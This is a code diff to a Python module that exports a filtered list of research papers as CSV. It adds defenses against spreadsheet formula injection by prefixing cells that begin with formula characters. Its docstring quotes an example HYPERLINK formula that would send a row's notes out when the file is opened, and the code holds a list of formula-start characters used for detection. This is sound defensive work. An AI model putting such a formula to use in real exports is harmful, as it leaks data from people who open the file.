@@ -1,6 +1,11 @@
 """
 A filtered list as CSV, one row per paper: the paper's record (the columns papers.importers.csv reads
 back), its sessions, and the member's and the lab's triage. Lists inside a cell are joined with "; ".
+
+A spreadsheet runs a cell that starts with = + - or @ (a title like =HYPERLINK("https://…?"&F2) would
+send the row's notes away when the file is opened): such a cell is written after an apostrophe, which
+spreadsheets show as text (OWASP's advice), and comes back from papers.importers.csv with it. The forum
+id is written as it is: only letters, digits, - and _, it can name no function, and it is the key.
 """
 
 from __future__ import annotations
@@ -14,6 +19,15 @@ from papers.models import Paper
 LIST_SEPARATOR = "; "
 PAPER_COLUMNS = ("forum_id", "title", "authors", "tier", "keywords", "primary_area", "abstract", "pdf_url")
 COLUMNS = (*PAPER_COLUMNS, "sessions", "my_state", "my_star", "my_one_liner", "lab_stars", "lab_reads")
+# What starts a formula, also after spaces; a tab or a carriage return first can too. Full-width forms too:
+# some spreadsheets read them as their ASCII twins.
+FORMULA_START = tuple("=+-@＝＋－＠")
+
+
+def _cell(value: str) -> str:
+    if value.lstrip().startswith(FORMULA_START) or value.startswith(("\t", "\r")):
+        return f"'{value}"
+    return value
 
 
 def paper_rows(papers: list[Paper]) -> list[dict[str, str]]:
@@ -47,5 +61,8 @@ def papers_csv(papers: list[Paper]) -> str:
     out = io.StringIO()
     writer = csv.DictWriter(out, fieldnames=COLUMNS)
     writer.writeheader()
-    writer.writerows(paper_rows(papers))
+    writer.writerows(
+        {name: value if name == "forum_id" else _cell(value) for name, value in row.items()}
+        for row in paper_rows(papers)
+    )
     return out.getvalue()
